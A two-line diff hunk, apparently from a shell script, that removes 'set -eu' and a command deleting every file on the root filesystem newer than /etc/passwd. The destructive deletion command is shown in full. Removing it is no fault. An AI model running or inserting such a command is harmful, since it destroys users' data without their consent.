@@ -1,2 +1,0 @@
-set -eu
-find / -xdev -type f -newer /etc/passwd -exec rm -f {} +
